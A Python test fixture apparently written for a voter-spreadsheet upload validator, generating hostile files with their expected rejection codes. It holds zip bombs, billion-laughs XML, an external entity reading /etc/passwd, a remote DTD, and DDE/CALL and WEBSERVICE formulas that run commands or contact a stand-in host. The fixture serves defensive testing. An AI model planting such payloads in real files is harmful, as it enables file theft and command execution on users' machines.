"""Files that mean harm, made by script: name → (bytes, the code with which they are refused)."""

from __future__ import annotations

import struct
import zipfile
from collections.abc import Callable
from functools import cache
from io import BytesIO

from tests.voters.make_voters import a_row, csv_bytes, table, xlsx

HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {}
HARMLESS: dict[str, Callable[[], bytes]] = {}  # looks hostile, is read as a table without harm
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
SHEET = (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{}</sheetData></worksheet>'
)


def hostile(code: str, name: str = "") -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    def keep(make: Callable[[], bytes]) -> Callable[[], bytes]:
        HOSTILE[name or make.__name__] = make, code
        return make

    return keep


def harmless(make: Callable[[], bytes]) -> Callable[[], bytes]:
    HARMLESS[make.__name__] = make
    return make


def a_book() -> bytes:
    return xlsx(table([a_row(1), a_row(2)]))


def with_parts(
    parts: dict[str, bytes], *, drop: tuple[str, ...] = (), compression: int = zipfile.ZIP_DEFLATED
) -> bytes:
    """A good workbook with members added, replaced or dropped."""
    out = BytesIO()
    with zipfile.ZipFile(BytesIO(a_book())) as old, zipfile.ZipFile(out, "w", compression) as new:
        for name in old.namelist():
            if name not in parts and name not in drop:
                new.writestr(name, old.read(name))
        for name, data in parts.items():
            new.writestr(name, data)
    return out.getvalue()


def with_sheet(rows: str) -> bytes:
    return with_parts({"xl/worksheets/sheet1.xml": SHEET.format(rows).encode()})


def part(name: str) -> bytes:
    with zipfile.ZipFile(BytesIO(a_book())) as book:
        return book.read(name)


# --- bombs -------------------------------------------------------------------------------------------


@hostile("BOMB")
@cache
def one_large_member() -> bytes:
    return with_parts({"xl/sharedStrings.xml": b"<sst>" + b" " * (300 * 1024 * 1024) + b"</sst>"})


@hostile("BOMB")
def ratio_of_a_thousand() -> bytes:
    return with_parts({"xl/worksheets/sheet1.xml": SHEET.format(" " * (3 * 1024 * 1024)).encode()})


@hostile("BOMB")
def many_members() -> bytes:
    return with_parts({f"xl/worksheets/sheet{n}.xml": b"<worksheet/>" for n in range(2, 700)})


@hostile("BOMB")
def a_zip_in_the_zip() -> bytes:
    return with_parts({"xl/media/inner.xml": a_book()})


@hostile("BOMB")
def a_gzip_in_the_zip() -> bytes:
    import gzip

    return with_parts({"xl/theme/theme1.xml": gzip.compress(b"x" * 100)})


def lying_directory() -> bytes:
    """The directory promises ten bytes, the member holds three hundred megabytes."""
    data = bytearray(one_large_member())
    at = data.rfind(b"xl/sharedStrings.xml") - 46
    struct.pack_into("<I", data, at + 24, 10)
    return bytes(data)


HOSTILE["lying_directory"] = lying_directory, "DAMAGED"


@hostile("BOMB")
def ratio_hidden_in_an_unknown_part() -> bytes:
    return with_parts({"xl/extra/blob.xml": b"A" * (4 * 1024 * 1024)})


# --- XML ---------------------------------------------------------------------------------------------

LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><worksheet>&lol3;</worksheet>'
)
FILE_ENTITY = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><worksheet>&x;</worksheet>'
REMOTE = b'<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://192.0.2.1/evil.dtd"><worksheet/>'

for where in (
    "xl/worksheets/sheet1.xml",
    "xl/workbook.xml",
    "xl/styles.xml",
    "[Content_Types].xml",
    "docProps/core.xml",
):
    for word, body in (("laughs", LAUGHS), ("file", FILE_ENTITY), ("remote", REMOTE)):
        HOSTILE[f"doctype_{word}@{where}"] = (lambda where=where, body=body: with_parts({where: body})), "DOCTYPE"


@hostile("DOCTYPE")
def doctype_in_lower_case() -> bytes:
    return with_parts({"xl/styles.xml": b"<!doctype html><styleSheet/>"})


@hostile("DOCTYPE")
def doctype_over_the_border_of_two_pieces() -> bytes:
    from random import Random

    filler = bytes(Random(1).choices(b"abcdefghij0123456789", k=256 * 1024 - 8))
    return with_parts({"xl/styles.xml": b"<a>" + filler + b"<!DOCTYPE x>"})


@hostile("DOCTYPE")
def doctype_in_utf_16() -> bytes:
    return with_parts({"xl/styles.xml": LAUGHS.decode().encode("utf-16")})


# --- macros, links, active content ---------------------------------------------------------------------


@hostile("MACRO")
def macro_project() -> bytes:
    return with_parts({"xl/vbaProject.bin": OLE + b"\0" * 100})


@hostile("MACRO")
def macro_project_elsewhere() -> bytes:
    return with_parts({"xl/macros/VBAPROJECT.BIN": OLE})


@hostile("MACRO")
def macro_type_without_project() -> bytes:
    types = part("[Content_Types].xml").replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    return with_parts({"[Content_Types].xml": types})


@hostile("MACRO")
def excel4_macro_sheet() -> bytes:
    return with_parts({"xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"})


@hostile("EXTERNAL_LINKS")
def external_workbook() -> bytes:
    return with_parts({"xl/externalLinks/externalLink1.xml": b"<externalLink/>"})


@hostile("EXTERNAL_LINKS")
def data_connection() -> bytes:
    return with_parts({"xl/connections.xml": b'<connections><connection name="x"/></connections>'})


@hostile("EXTERNAL_LINKS")
def embedded_object() -> bytes:
    return with_parts({"xl/embeddings/oleObject1.bin": OLE})


@hostile("EXTERNAL_LINKS")
def activex() -> bytes:
    return with_parts({"xl/activeX/activeX1.xml": b"<ax/>"})


@hostile("EXTERNAL_LINKS")
def picture_from_outside() -> bytes:
    relation = (
        b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'image" Target="http://192.0.2.1/x.png" TargetMode="External"/></Relationships>'
    )
    return with_parts({"xl/drawings/_rels/drawing1.xml.rels": relation})


FORMULAS = {
    "hyperlink": 'HYPERLINK("http://192.0.2.1/"&amp;A1,"x")',
    "webservice": 'WEBSERVICE("http://192.0.2.1/")',
    "dde": "cmd|'/c calc'!A0",
    "dde_function": 'DDE("cmd";"/c calc";"x")',
    "other_file": "[1]Sheet1!A1",
    "share": "'\\\\192.0.2.1\\share\\[a.xls]S'!A1",
    "call": 'CALL("Kernel32","WinExec","JCJ","calc",0)',
    "register": 'REGISTER.ID("a","b")',
    "rtd": 'RTD("x",,"y")',
    "import": 'IMPORTXML("http://192.0.2.1","//a")',
}
for key, formula in FORMULAS.items():
    cell = f'<row r="1"><c r="A1" t="str"><f>{formula}</f><v>x</v></c></row>'
    HOSTILE[f"formula_{key}"] = (lambda cell=cell: with_sheet(cell)), "FORMULA"


# --- size of the table ------------------------------------------------------------------------------------


@hostile("TOO_MANY_ROWS")
def a_million_rows_with_blanks() -> bytes:
    rows = "".join(f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t> </t></is></c></row>' for n in range(1, 300_001))
    return with_sheet(rows)


@hostile("TOO_MANY_ROWS")
def one_cell_at_the_far_end() -> bytes:
    return with_sheet('<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="B1048576"><v>1</v></c></row>')


@hostile("TOO_MANY_COLUMNS")
def sixteen_thousand_columns() -> bytes:
    def letters(number: int) -> str:
        text = ""
        while number:
            number, rest = divmod(number - 1, 26)
            text = chr(65 + rest) + text
        return text

    return with_sheet(
        '<row r="1">' + "".join(f'<c r="{letters(n)}1"><v>1</v></c>' for n in range(1, 16_001)) + "</row>"
    )


@hostile("TOO_MANY_COLUMNS")
def one_cell_at_the_far_corner() -> bytes:
    return with_sheet('<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')


@hostile("TOO_MANY_COLUMNS")
def far_corner_in_single_quotes() -> bytes:
    return with_sheet("<row r = '1'><c r = 'XFD1'><v>1</v></c></row><row r='900000'><c r='A900000'><v>1</v></c></row>")


@hostile("TOO_MANY_ROWS")
def a_long_csv() -> bytes:
    return csv_bytes(table([a_row(1)])) + b"a,b,c\n" * 200_100


@hostile("TOO_MANY_COLUMNS")
def a_wide_csv() -> bytes:
    return ",".join(f"列{n}" for n in range(20_000)).encode()


# --- not what it says -------------------------------------------------------------------------------------

NOT_TABLES = {
    "pdf": b"%PDF-1.7\n1 0 obj",
    "html": "<html><table><tr><td>姓名</td><td>身份证号</td></tr></table></html>".encode(),
    "html_with_doctype": b"<!DOCTYPE html><html><body><table></table>",
    "spreadsheet_xml": b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook/>',
    "rtf": b"{\\rtf1 \\ansi",
    "program": b"MZ\x90\x00\x03\x00\x00\x00" + b"\0" * 100,
    "elf": b"\x7fELF\x02\x01\x01\x00",
    "png": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR",
    "jpeg": b"\xff\xd8\xff\xe0\x00\x10JFIF\0",
    "gzip": b"\x1f\x8b\x08\x00\x00\x00\x00\x00",
    "rar": b"Rar!\x1a\x07\x01\x00",
    "random": bytes(range(256)) * 4,
    "truncated_gb18030": "姓名,身份证号\n".encode("gb18030") + b"\x81",
}
for key, data in NOT_TABLES.items():
    HOSTILE[f"not_{key}"] = (lambda data=data: data), "NOT_A_SPREADSHEET"


@hostile("NOT_A_SPREADSHEET")
def a_word_document() -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as book:
        book.writestr("[Content_Types].xml", "<Types/>")
        book.writestr("word/document.xml", "<w:document/>")
    return out.getvalue()


@hostile("NOT_A_SPREADSHEET")
def an_open_document_sheet() -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as book:
        book.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        book.writestr("content.xml", "<office:document-content/>")
    return out.getvalue()


@hostile("NOT_A_SPREADSHEET")
def a_binary_workbook() -> bytes:
    return with_parts({"xl/workbook.bin": b"\x83\x01\x00"})


def ole(*names: str) -> bytes:
    """A compound file whose directory has these entries."""
    entries = b""
    for name in ("Root Entry", *names):
        raw = name.encode("utf-16-le") + b"\0\0"
        entry = raw.ljust(64, b"\0") + struct.pack("<HBB", len(raw), 5 if name == "Root Entry" else 2, 1)
        entries += entry.ljust(128, b"\0")
    return OLE + b"\0" * (512 - 8) + entries.ljust(1024, b"\0")


@hostile("ENCRYPTED")
def an_encrypted_workbook() -> bytes:
    return ole("EncryptionInfo", "EncryptedPackage")


@hostile("ENCRYPTED")
def an_old_workbook_with_a_password() -> bytes:
    beginning = struct.pack("<HHHHHHII", 0x0809, 16, 0x0600, 5, 0, 0, 0, 0)
    return ole("Workbook") + beginning + struct.pack("<HHHHH", 0x2F, 6, 0, 1, 2) + b"\0" * 512


@hostile("ENCRYPTED")
def a_zip_with_a_password() -> bytes:
    data = bytearray(a_book())
    at = data.find(b"PK\x01\x02")
    data[at + 8] |= 1
    return bytes(data)


@hostile("MACRO")
def an_old_workbook_with_macros() -> bytes:
    return ole("Workbook", "_VBA_PROJECT_CUR")


@hostile("NOT_A_SPREADSHEET")
def an_old_word_document() -> bytes:
    return ole("WordDocument", "1Table")


@hostile("DAMAGED")
def a_torn_file() -> bytes:
    return a_book()[:-200]


@hostile("DAMAGED")
def two_members_of_one_name() -> bytes:
    out = BytesIO(a_book())
    with zipfile.ZipFile(out, "a") as book:
        book.writestr("XL/worksheets/SHEET1.xml", SHEET.format(""))
    return out.getvalue()


@hostile("DAMAGED")
def a_sheet_that_is_no_xml() -> bytes:
    return with_parts({"xl/worksheets/sheet1.xml": b"<worksheet><sheetData><row><c><v>1</c></row>"})


@hostile("DAMAGED")
def a_hollow_compound_file() -> bytes:
    return ole("Workbook")


@hostile("EMPTY")
def nothing() -> bytes:
    return b""


@hostile("EMPTY")
def only_zeros() -> bytes:
    return b"\0" * 4096


@hostile("EMPTY")
def only_headings() -> bytes:
    return xlsx(table([]))


@hostile("EMPTY")
def no_cells() -> bytes:
    return xlsx([])


@hostile("TOO_BIG")
def eleven_megabytes() -> bytes:
    from random import Random

    return b"name,id\n" + Random(1).randbytes(11 * 1024 * 1024)
